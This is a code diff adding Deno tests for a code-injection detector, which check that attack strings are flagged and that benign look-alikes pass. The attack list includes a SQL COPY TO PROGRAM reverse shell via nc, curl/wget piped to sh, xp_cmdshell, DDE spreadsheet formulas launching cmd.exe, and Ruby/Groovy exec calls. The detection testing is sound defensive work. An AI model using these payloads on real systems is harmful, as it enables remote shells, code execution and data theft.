@@ -218,3 +218,71 @@ Deno.test("codeInjectionDetector passes log patterns, property placeholders and 
     assert.deepEqual(f.map((x) => x.kind), [], `false positive for ${key}=${value}`);
   }
 });
+
+/** Round 2: format strings, SQL that reaches the OS, DDE formulas, Ruby/Perl/Lua/Groovy exec. */
+const R2_ATTACKS: [string, string, string][] = [
+  ["format", "{0.__init__.__globals__[os].environ}", "format_string_introspection"],
+  ["message", "Hello {user.__class__.__mro__[1].__subclasses__}", "format_string_introspection"],
+  ["title", "{self.__init__.__globals__[CONFIG]}", "format_string_introspection"],
+  ["query", "COPY (SELECT '') TO PROGRAM 'nc -e /bin/sh 203.0.113.1 4444'", "sql_exec"],
+  ["search", "x'; copy logs from program $$bash -c 'id'$$; --", "sql_exec"],
+  ["text", "COPY t FROM PROGRAM E'curl 198.51.100.2|sh'", "sql_exec"],
+  ["sql", "EXEC xp_cmdshell N'powershell -c whoami'", "sql_exec"],
+  ["q", "1; EXEC master.dbo.xp_cmdshell 'ping 203.0.113.3'--", "sql_exec"],
+  ["statement", "exec sp_configure 'xp_cmdshell', 1; reconfigure", "sql_exec"],
+  [
+    "sql",
+    "DECLARE @s INT; EXEC sp_OACreate 'WScript.Shell', @s OUT; EXEC sp_OAMethod @s, 'Run', NULL, 'calc'",
+    "sql_exec",
+  ],
+  ["sql", "SELECT sys_exec('curl 203.0.113.5|sh')", "sql_exec"],
+  ["sql", "CREATE FUNCTION x() RETURNS void LANGUAGE plperlu AS $$ system('id') $$", "sql_exec"],
+  [
+    "stmt",
+    "create function f() returns text as 'import os\nreturn os.popen(\"id\").read()' language plpython3u",
+    "sql_exec",
+  ],
+  ["cell", "+cmd|'/c powershell iwr 203.0.113.4'!A1", "formula_injection"],
+  ["value", "@SUM(1+1)*cmd|' /C calc'!A0", "formula_injection"],
+  ["note", "=MSEXCEL|'\\..\\..\\Windows\\System32\\cmd.exe /c calc.exe'!''", "formula_injection"],
+  ["body", '{ DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe "/k calc.exe" }', "formula_injection"],
+  ["code", "%x{wget -qO- 203.0.113.1|sh}", "ruby_exec"],
+  ["code", "IO.popen('id').read", "ruby_exec"],
+  ["script", "Open3.capture2('uname -a')", "ruby_exec"],
+  ["script", "io.popen('id'):read('*a')", "ruby_exec"],
+  ["code", "my $o = qx(id);", "ruby_exec"],
+  ["comment", "nice %x(curl -s 198.51.100.9 | bash)", "ruby_exec"],
+  ["script", '"curl http://203.0.113.7/x".execute().text', "groovy_exec"],
+  ["script", "def out = ['sh','-c','id'].execute().text", "groovy_exec"],
+  ["code", "['cmd.exe', '/c', 'dir'].execute()", "groovy_exec"],
+];
+
+const R2_BENIGN: [string, string][] = [
+  ["query", 'def __repr__(self): return f"{self.__class__.__name__}({self.x})"'],
+  ["format", "{name!s:>20} {amount:,.2f}"],
+  ["sql", "COPY orders TO STDOUT WITH (FORMAT csv)"],
+  [
+    "sql",
+    "CREATE FUNCTION slug(t text) RETURNS text AS $$ return t.lower() $$ LANGUAGE plpython3u",
+  ],
+  ["text", "The xp_cmdshell option is disabled by default; keep it that way."],
+  ["text", "Our program ships FROM PROGRAM 'A' TO PROGRAM 'B' every quarter."],
+  ["cell", "=SUM(A1:A9)|total"],
+  ["cell", '=HYPERLINK("https://jira.example.com/browse/"&A2, A2)'],
+  ["text", 'In Groovy, "ls -l".execute() is a shortcut'],
+  ["code", 'cursor.execute("SELECT 1")'],
+  ["text", 'printf("%x(%d)", a, b)'],
+];
+
+Deno.test("codeInjectionDetector flags format-string walks, SQL command execution, DDE and Ruby/Groovy exec", () => {
+  for (const [key, value, kind] of R2_ATTACKS) {
+    const kinds = codeInjectionDetector.scan(value, at(key), opts).map((f) => f.kind);
+    assert.ok(kinds.includes(kind), `${key}=${value}: expected ${kind}, got [${kinds}]`);
+  }
+});
+
+Deno.test("codeInjectionDetector passes format specs, plain SQL, ordinary formulas and code that names those calls", () => {
+  for (const [key, value] of R2_BENIGN) {
+    assert.deepEqual(codeInjectionDetector.scan(value, at(key), opts), [], `${key}=${value}`);
+  }
+});
